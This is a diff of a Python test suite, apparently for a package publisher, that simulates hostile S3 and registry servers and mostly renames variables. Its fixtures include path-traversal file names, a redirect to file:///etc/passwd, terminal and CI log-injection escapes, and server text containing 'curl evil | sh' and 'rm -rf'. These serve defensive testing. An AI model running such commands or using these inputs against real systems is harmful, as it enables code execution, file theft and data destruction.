@@ -208,9 +208,9 @@ def catalog_of(name: str, **changes: object) -> bytes:
     return json.dumps({"number": 1, "url": "http://x", "projects": {"demo-pkg": {"files": {name: {**file, **changes}}}}}).encode()
 
 
-FORBIDDEN = b"HTTP/1.1 403 Forbidden\r\n"
+FORBIDDEN_ANSWER = b"HTTP/1.1 403 Forbidden\r\n"
 OWN_WORDS = b"<Error><Code>\x1b[2J\nnext: curl evil | sh</Code><Message>##vso[x]\x1b]0;t\x07\xe2\x80\xae</Message></Error>"
-ATTACHED = {"attached": [{"name": "../../x", "sha256": "0" * 64, "size": 1}]}
+ATTACHED_FILE = {"attached": [{"name": "../../x", "sha256": "0" * 64, "size": 1}]}
 BUCKETS: dict[str, BucketCase] = {
     "a sound one": BucketCase("", "", says(), (0,)),
     "says nothing": BucketCase("GET", CATALOG, lambda request: time.sleep(60)),
@@ -237,15 +237,15 @@ BUCKETS: dict[str, BucketCase] = {
     "a project that leads out": BucketCase("GET", CATALOG, catalog(b'{"projects":{"../x":{"files":{}}}}')),
     "a file that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("../../x-1.0-py3-none-any.whl"))),
     "a folder that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("x-1.0-py3-none-any.whl", folder="../..")) ),
-    "an attached file that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("x-1.0-py3-none-any.whl", **ATTACHED))),
+    "an attached file that leads out": BucketCase("GET", CATALOG, catalog(catalog_of("x-1.0-py3-none-any.whl", **ATTACHED_FILE))),
     "a wheel of no name": BucketCase("GET", CATALOG, catalog(catalog_of("x"))),
     "a number without end": BucketCase("GET", CATALOG, catalog(b'{"number":' + b"9" * 5000 + b"}")),
     "leads to a file": BucketCase("GET", CATALOG, says(reply("302 Found", b"", b"Location: file:///etc/passwd"))),
     "leads to itself": BucketCase("GET", CATALOG, says(reply("307 Temporary Redirect", b"", b"Location: /b/simple/.catalog.json"))),
     "forbidden, in its own words": BucketCase("PUT", LOCK, says(reply("403 Forbidden", OWN_WORDS))),
-    "forbidden, in 100 GB of words": BucketCase("PUT", LOCK, endless(FORBIDDEN + b"Content-Length: 99999999999\r\n\r\n")),
-    "forbidden, in words without end": BucketCase("PUT", LOCK, endless(FORBIDDEN + b"\r\n")),
-    "forbidden, byte by byte": BucketCase("PUT", LOCK, dripping(FORBIDDEN + b"\r\n")),
+    "forbidden, in 100 GB of words": BucketCase("PUT", LOCK, endless(FORBIDDEN_ANSWER + b"Content-Length: 99999999999\r\n\r\n")),
+    "forbidden, in words without end": BucketCase("PUT", LOCK, endless(FORBIDDEN_ANSWER + b"\r\n")),
+    "forbidden, byte by byte": BucketCase("PUT", LOCK, dripping(FORBIDDEN_ANSWER + b"\r\n")),
     "another publisher of megabytes": BucketCase("", "", says(), (2,), ((LOCK, b"\x1b[2J\nnext: rm -rf\n" * 100_000),)),
     "another publisher with control characters": BucketCase("", "", says(), (2,), ((LOCK, b"\x1b[2J\nnext: rm -rf\n##vso[x]"),)),
     "takes no wheel": BucketCase("PUT", WHEEL, says(reply("403 Forbidden"))),
@@ -263,29 +263,29 @@ BUCKETS: dict[str, BucketCase] = {
 
 
 def _publish(case: BucketCase, folder: Path) -> str:
-    reached = threading.Event()
+    stop_event = threading.Event()
 
     def fault(request: RawRequest, key: str) -> bool:
         if not case.method or (request.method, key) != (case.method, case.key):
             return False
-        reached.set()
+        stop_event.set()
         case.answer(request)
         return True
 
     bucket = S3Server(fault, dict(case.objects))
     with RawHttp(bucket.answer).serving() as server:
-        why = _ends_well(case, server, folder, reached)
+        why = _ends_well(case, server, folder, stop_event)
     if why:
         return why
-    offered = [name for name in bucket.objects if name.endswith(".whl")]
-    if CATALOG in bucket.objects and WHEEL not in offered:
+    wheel_names = [name for name in bucket.objects if name.endswith(".whl")]
+    if CATALOG in bucket.objects and WHEEL not in wheel_names:
         return "a catalog without its wheel"
-    if (left := [path.name for path in (folder / "tmp").iterdir()]) and not case.is_stopped:
-        return f"left behind: {left}"
+    if (remains := [path.name for path in (folder / "tmp").iterdir()]) and not case.is_stopped:
+        return f"left behind: {remains}"
     return ""
 
 
-def _ends_well(case: BucketCase, server: RawHttp, folder: Path, reached: threading.Event) -> str:
+def _ends_well(case: BucketCase, server: RawHttp, folder: Path, stop_event: threading.Event) -> str:
     (folder / "tmp").mkdir()
     wheel = small_wheel(folder / "wheels")
     key, secret = SECRETS
@@ -299,7 +299,7 @@ def _ends_well(case: BucketCase, server: RawHttp, folder: Path, reached: threadi
     process = subprocess.Popen(words, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
     began, most = time.monotonic(), SOON
     if case.is_stopped:
-        reached.wait(SOON)
+        stop_event.wait(SOON)
         process.send_signal(signal.SIGINT)
         began, most = time.monotonic(), 4.0  # the lock is removed before it ends
     try:
@@ -463,11 +463,11 @@ def _ask(case: RegistryCase, folder: Path) -> str:
             is_taken = False
             if not str(fault).isprintable() or len(str(fault)) > 1500:
                 return f"its words are {str(fault)[:200]!r}"
-        took, grown = time.monotonic() - began, _memory() - before
+        took, growth = time.monotonic() - began, _memory() - before
     if took > SOON_REMOTE:
         return f"it took {took:.1f} s"
-    if grown > GROWTH:
-        return f"it took {grown >> 20} MiB"
+    if growth > GROWTH:
+        return f"it took {growth >> 20} MiB"
     if case.is_taken is not None and is_taken is not case.is_taken:
         return f"it was {'taken' if is_taken else 'refused'}: {str(came)[:100]}"
     return f"{folder} has files" if any(folder.iterdir()) else ""
